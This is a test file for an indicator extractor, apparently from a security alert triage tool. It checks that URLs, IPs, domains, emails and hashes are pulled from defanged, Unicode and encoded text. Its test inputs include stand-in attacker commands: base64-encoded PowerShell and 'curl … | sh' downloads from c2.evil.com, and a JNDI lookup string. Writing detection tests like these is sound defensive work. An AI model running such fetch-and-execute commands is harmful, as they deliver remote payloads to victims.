import { growth, LINEAR } from '../../../../test/harness/counted-work.ts';
import type { Json } from '#contracts';
import { alertObservables, eachText, extractObservables } from './extract.ts';

const found = (...texts: string[]) => extractObservables(texts).map((o) => `${o.type} ${o.value}`);
const ofAlert = (raw: Json) => alertObservables({ observables: [], title: '', description: '', raw });

describe('what is found in a text', () => {
  it.each([
    ['see http://evil.example.com/a?b=1.', ['url http://evil.example.com/a?b=1', 'domain evil.example.com']],
    ['hxxps://evil[.]example[.]com/x', ['url https://evil.example.com/x', 'domain evil.example.com']],
    ['hXXp[:]//evil(dot)com/', ['url http://evil.com/', 'domain evil.com']],
    ['(http://a.example/wiki_(x))', ['url http://a.example/wiki_(x)', 'domain a.example']],
    ['http://198.51.100.7:8080/x', ['url http://198.51.100.7:8080/x', 'ip 198.51.100.7']],
    ['http://[2001:db8::1]/', ['url http://[2001:db8::1]/', 'ip 2001:db8::1']],
    ['http://evil.com./x', ['url http://evil.com/x', 'domain evil.com']],
    ['mail bob[at]corp[.]com now', ['email_address bob@corp.com']],
    ['10.1.2.3 and 300.1.2.3 and 1.2.3.4.5 and 10.0.0.0/8', ['ip 10.1.2.3']],
    ['agent 1007.3.0016606.11', []],
    ['at 12:30:45 from fe80::1', ['ip fe80::1']],
    ['std::string and ::', []],
    ['evil.com, www.bbc.co.uk', ['domain evil.com', 'domain www.bbc.co.uk']],
    ['invoice.zip setup.py go.exe System.Net.WebClient event.name=1', []],
    ['subprocess.call or subprocess.run with a shell', []],
    ['document.link and console.evil.shop', ['domain document.link', 'domain console.evil.shop']],
    ['C:\\Temp\\evil.com', []],
    ['not.a-tld.invalidtld', []],
    [`md5 ${'ab'.repeat(16)}`, [`md5 ${'ab'.repeat(16)}`]],
    [`${'a1'.repeat(20)} ${'B2'.repeat(32)}`, [`sha1 ${'a1'.repeat(20)}`, `sha256 ${'b2'.repeat(32)}`]],
    [`zeros ${'0'.repeat(64)} and ${'ab'.repeat(33)} and ${'ab'.repeat(64)}`, []],
  ])('%j', (text, expected) => expect(found(text)).toEqual(expected));

  it.each([
    ['evil1[.com evil2.]com', ['domain evil1.com', 'domain evil2.com']],
    ['evil3 [.] com, evil4[d]com, evil5\\.com', ['domain evil3.com', 'domain evil4.com', 'domain evil5.com']],
    ['http://evil6 .com/x', ['url http://evil6.com/x', 'domain evil6.com']],
    ['http:\\\\evil7.com/x', ['url http://evil7.com/x', 'domain evil7.com']],
    ['evil8．com evil9。com', ['domain evil8.com', 'domain evil9.com']],
    ['ann [at] evil10 [.] com', ['email_address ann@evil10.com']],
    ['2001:db8[::]a 2001[:]db8[:][:]b', ['ip 2001:db8::a', 'ip 2001:db8::b']],
    ['198[.]51[.]100[.]7', ['ip 198.51.100.7']],
  ])('of a defanged %j', (text, expected) => expect(found(text)).toEqual(expected));

  it.each([
    ['2001:0DB8:00a1::0001 2001:db8:a1:0:0:0:0:1', ['ip 2001:db8:a1::1']],
    ['fe80::1%eth0 [2001:db8::7]:443', ['ip fe80::1', 'ip 2001:db8::7']],
    ['::ffff:198.51.100.7 ::FFFF:C633:6407', ['ip 198.51.100.7']],
    ['2001:db8::/32 2001:db8::5/128 198.51.100.0/24 198.51.100.9/32', ['ip 198.51.100.9', 'ip 2001:db8::5']],
    ['at 10:20:30:40 00:11:22:33:44:55:66:77 dead::beef Foo::Bar 1::2', []],
    ['mask 255.255.255.0, any 0.0.0.0, to 255.255.255.255', []],
    ['group 224.0.0.251, 100.64.1.1', ['ip 224.0.0.251', 'ip 100.64.1.1']],
  ])('of addresses in %j', (text, expected) => expect(found(text)).toEqual(expected));

  it.each([
    'OpenSSL 3.0.2.1, agent version 4.2.5.0, build 15.1.225.42',
    'Chrome/124.0.0.0 Safari/537.36, McAfee 5.7.1.2, ver=9.1.2.3',
    'libfoo-1.2.3.4-r0 v1.2.3.4 release: 8.8.4.4 docker.io/team/app:1.2.3.4',
    'host.name and user.id, system.disk.free, Adware.Android, node.js, asp.net',
    'sts.amazonaws.com ec2.eu-west-1.amazonaws.com storage.googleapis.com',
    'see https://attack.mitre.org/techniques/T1059 and https://learn.microsoft.com/x',
    'xmlns http://www.w3.org/2000/svg, https://eu.app.datadoghq.com/monitors/1',
    'Message-ID: <20260101.1@mta.evil.com>',
    `imphash ${'f3'.repeat(16)} guid ${'6f'.repeat(16)} id=${'7e'.repeat(16)} ja3: ${'8d'.repeat(16)}`,
    'empty d41d8cd98f00b204e9800998ecf8427e, tables/anon_c2b49f742788f188022fcec1f1622e7404b40ce5',
    'keys/a378358365ff3d22e9c1a72fecf4605ddff76b47',
    '4.3.2.1.in-addr.arpa',
  ])('nothing of %j', (text) => expect(found(text)).toEqual([]));

  it.each([
    ['tcp 9.9.9.9, tcp/9.9.9.8, FortiGate 10.0.0.1', ['ip 9.9.9.9', 'ip 9.9.9.8', 'ip 10.0.0.1']],
    ['localhost/127.0.0.1 srv01/203.0.113.4:80', ['ip 127.0.0.1', 'ip 203.0.113.4']],
    ['dst=8.8.8.8 dhost=evil.com', ['ip 8.8.8.8', 'domain evil.com']],
    ['ssh root@198.51.100.3, git clone git@evil.org:a/b', ['ip 198.51.100.3', 'domain evil.org']],
    [
      `MD5=${'9E'.repeat(16)},SHA256=${'1B'.repeat(32)},IMPHASH=${'F3'.repeat(16)}`,
      [`md5 ${'9e'.repeat(16)}`, `sha256 ${'1b'.repeat(32)}`],
    ],
    ['bucket-a.s3.amazonaws.com', ['domain bucket-a.s3.amazonaws.com']],
    [
      'http://storage.googleapis.com/b',
      ['url http://storage.googleapis.com/b', 'domain storage.googleapis.com'],
    ],
  ])('what looks like something else, and is none, of %j', (text, expected) =>
    expect(found(text)).toEqual(expected),
  );

  it.each([
    ['løve.com and bücher-shop.com', ['domain xn--lve-0na.com', 'domain xn--bcher-shop-9db.com']],
    ['info@bücher-shop.com', ['email_address info@xn--bcher-shop-9db.com']],
    ['пример.рф', ['domain xn--e1afmkfd.xn--p1ai']],
    ['xn--bcher-shop-9db.com', ['domain xn--bcher-shop-9db.com']],
    [
      'bu\u0308cher-shop.com e\u00advil.com ev\u200bil.com',
      ['domain xn--bcher-shop-9db.com', 'domain evil.com'],
    ],
    ['访问evil.com下载', ['domain evil.com']],
    ['打开https://evil.org/x下载 https://evil.net访问', ['url https://evil.org/x', 'url https://evil.net/']],
    [
      '“https://a.evil.com/i” https://a.evil.com/h…',
      ['url https://a.evil.com/i', 'url https://a.evil.com/h'],
    ],
    [
      'https://a.evil.com/j。次 https://a.evil.com/k에서',
      ['url https://a.evil.com/j', 'url https://a.evil.com/k'],
    ],
    ['https://zh.evil.com/wiki/中文', ['url https://zh.evil.com/wiki/%E4%B8%AD%E6%96%87']],
  ])('in every script: %j', (text, expected) =>
    expect(found(text).filter((one) => !(one.startsWith('domain') && text.includes('://')))).toEqual(
      expected,
    ),
  );

  it.each([
    ['${jndi:ldap://a.evil.com/b}', ['domain a.evil.com']],
    ['sftp://u:p@b.evil.com/x tcp://c.evil.com:4444', ['domain b.evil.com', 'domain c.evil.com']],
    ['rtsp://198.51.100.4:554/ smb://[2001:db8::4]/c$', ['ip 198.51.100.4', 'ip 2001:db8::4']],
    ['s3://bucket.evil.com/x data://evil.com javascript://evil.com/%0a docker://19.3.13', []],
    ['git+https://evil.com/r', ['url https://evil.com/r', 'domain evil.com']],
    ['\\\\d.evil.com\\share', ['domain d.evil.com']],
    ['\\\\198.51.100.5@SSL@8443\\DavWWWRoot\\x', ['ip 198.51.100.5']],
    ['\\\\FILES-01\\c$ and \\\\?\\UNC\\files-02\\x', ['host files-01', 'host files-02']],
    ["'\\\\\\\\198.51.100.6\\\\pwn\\\\a.dll'", ['ip 198.51.100.6']],
    ['C:\\\\Program\\\\x \\\\Device\\\\Harddisk \\\\?\\C:\\x \\\\.\\pipe\\y', []],
    [
      'http://a.evil.com,http://b.evil.com http://r.evil.com/?u=http://i.evil.org/z',
      [
        'url http://a.evil.com/',
        'domain a.evil.com',
        'url http://b.evil.com/',
        'domain b.evil.com',
        'url http://r.evil.com/?u=http://i.evil.org/z',
        'domain r.evil.com',
        'url http://i.evil.org/z',
        'domain i.evil.org',
      ],
    ],
  ])('hosts behind %j', (text, expected) => expect(found(text)).toEqual(expected));

  it.each([
    ['Evil.com, EVIL.ORG', ['domain evil.com', 'domain evil.org']],
    ['evil.Com is code, as is System.Net', []],
    ['run.sh and a.zip', []],
    ['mail bob@corp and eve@evil.com.', ['email_address eve@evil.com']],
    [
      'http://evil.com/a). And [http://b.com/x] "http://c.com/"!',
      [
        ...['url http://evil.com/a', 'domain evil.com', 'url http://b.com/x', 'domain b.com'],
        ...['url http://c.com/', 'domain c.com'],
      ],
    ],
    ['http://a.com/((x)))', ['url http://a.com/((x))', 'domain a.com']],
    ['ftp://files.example.com/', ['url ftp://files.example.com/', 'domain files.example.com']],
    ['http:///', []],
    ['a:b: 1:2 and 2001:db8::7', ['ip 2001:db8::7']],
    [`${'ab1'.repeat(11)}`, []],
  ] as [string, string[]][])('%j holds these', (text, expected) => expect(found(text)).toEqual(expected));

  it('is bounded over all texts together', () => {
    const most = 2 * 1024 * 1024;
    const filler = (length: number) => 'x '.repeat(length / 2);
    expect(found(filler(most - 8), 'evil.com and more')).toEqual(['domain evil.com']);
    expect(found(filler(most), 'evil.com')).toEqual([]);
    expect(found(filler(most + 2), 'evil.com and evil.org')).toEqual([]);
    expect(found(`${filler(most - 8)}evil.com evil.org`)).toEqual(['domain evil.com']);
  });

  it('gives each once', () => expect(found('a.com', 'A.COM a.com')).toEqual(['domain a.com']));
});

describe('what a command line carries', () => {
  const wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
  const narrow = (text: string) => Buffer.from(text).toString('base64');

  it.each([
    [`powershell.exe -nop -enc ${wide("iwr 'http://c2.evil.com/a.ps1'")}`],
    [`echo ${narrow('curl http://c2.evil.com/a.ps1 | sh')} | base64 -d | sh`],
    [`powershell -e ${wide(`[Convert]::FromBase64String('${narrow('get http://c2.evil.com/a.ps1')}')`)}`],
  ])('is read: %s', (text) => {
    expect(found(text)).toEqual(['url http://c2.evil.com/a.ps1', 'domain c2.evil.com']);
  });

  it('is left alone where nothing decodes it, and where it is no text', () => {
    expect(found(narrow('http://c2.evil.com/a.ps1 is here'))).toEqual([]);
    expect(
      found(`base64 ${Buffer.from(Array.from({ length: 60 }, (_, n) => n * 7)).toString('base64')}`),
    ).toEqual([]);
  });

  it('is bounded', () => {
    const many = Array.from({ length: 40 }, (_, n) => narrow(`http://h${n}.evil.com/and-more`)).join(' ');
    expect(found(`base64 ${many}`).filter((one) => one.startsWith('url'))).toHaveLength(16);
  });
});

describe('what is found in an alert', () => {
  it('reads JSON inside a string by its keys, and what only looks like it as text', () => {
    const inner = JSON.stringify({ MachineId: 'ab'.repeat(16), Url: 'http://a.example/' });
    const texts: string[] = [];
    eachText({ AdditionalFields: inner, other: '["not JSON' }, (text) => texts.push(text));
    expect(texts).toEqual(['ab'.repeat(16), 'http://a.example/', '["not JSON']);
  });

  it('ends on strings that hold strings that hold JSON, and does not recurse', () => {
    let text = '"bottom"';
    for (let depth = 0; depth < 12; depth += 1) text = JSON.stringify([text]);
    const texts: string[] = [];
    eachText(text, (each) => texts.push(each));
    expect(texts).toEqual(['"bottom"']);
    let value: { [key: string]: Json } = { end: {} };
    for (let n = 0; n < 100_000; n += 1) value = { a: value };
    expect(ofAlert(value).observables).toEqual([]);
  });

  it('keeps the first thousand, and says how many there were', () => {
    const many = Array.from({ length: 1200 }, (_, n) => `198.18.${n >> 8}.${n & 255}`);
    const twice = ofAlert({ list: [...many, ...many] });
    expect(twice.observables).toHaveLength(1000);
    expect(twice.observables[0]).toEqual({ type: 'ip', value: '198.18.0.0' });
    expect(twice).toMatchObject({ found: 1200, unread: 0 });
  });

  it('takes what a format names before what a text holds, each once, in the order of the texts', () => {
    const alert = {
      observables: [
        { type: 'host' as const, value: 'WEB01' },
        { type: 'ip' as const, value: 'none' },
        { type: 'domain' as const, value: 'b.com' },
      ],
      title: 'a.com',
      description: 'b.com',
      raw: { c: ['c.com', { d: 'd.com' }], e: 'e.com', f: null, g: true },
    };
    expect(alertObservables(alert).observables.map(({ type, value }) => `${type} ${value}`)).toEqual([
      ...['host web01', 'domain b.com', 'domain a.com'],
      ...['domain c.com', 'domain d.com', 'domain e.com'],
    ]);
  });

  it('says how much of it was too long to be looked through', () => {
    const long = ofAlert({ a: 'x'.repeat(2 * 1024 * 1024 + 5), b: 'http://late.evil.com/' });
    expect(long).toEqual({ observables: [], found: 0, unread: 5 + 'http://late.evil.com/'.length });
  });

  it.each([
    ['letters', 'a'],
    ['dots', 'a.'],
    ['at signs', 'a@'],
    ['colons', '1:'],
    ['brackets', '('],
    ['link tails', `http://a.com/${')'.repeat(4000)} `],
    ['links in links', 'http://a.com/?u='],
    ['defanged dots', '[.]'],
    ['open brackets', 'a [ '],
    ['digits', '1.'],
    ['hex', 'abcdef0123456789'],
    ['percent', '%'],
    ['backslashes', '\\\\a\\'],
    ['shares', '\\\\host-1\\s '],
    ['base64', `powershell ${'QUJD'.repeat(30)} `],
    ['Han', '中.'],
    ['Han and Latin', '中a。'],
    ['accents', 'a\u0308'],
    ['versions', 'a 1.2.3.4 '],
    ['labels', 'a=b.com,'],
  ])('takes linear time on %s', async (_name, text) => {
    const work = (size: number) => extractObservables([text.repeat(size / text.length)]);
    expect(await growth(50_000, work)).toBeLessThan(LINEAR);
  });

  // What is remembered of names and keys must not make the second time less.
  let made = 0;
  const fresh = () => `h${(made += 1)}`;
  it.each([
    ['one link whose tail grows', (size: number) => ({ text: `http://a.com/${')'.repeat(size)} ` })],
    ['one link of links', (size: number) => ({ text: `http://a.com/${'?http://b.com/'.repeat(size / 14)}` })],
    ['one base64 text', (size: number) => ({ text: `base64 ${'QUJD'.repeat(size / 4)}` })],
    [
      'many leaves',
      (size: number) => ({ list: Array.from({ length: size / 20 }, () => `${fresh()}.evil.com`) }),
    ],
    [
      'many keys',
      (size: number) =>
        Object.fromEntries(Array.from({ length: size / 20 }, () => [`a${fresh()}Id`, 'evil.com'])),
    ],
    ['one long key', (size: number) => ({ ['aB'.repeat(size / 2)]: 'evil.com' })],
  ])('takes linear time on %s', async (_name, raw) => {
    expect(await growth(20_000, (size) => ofAlert(raw(size)))).toBeLessThan(LINEAR);
  });
});
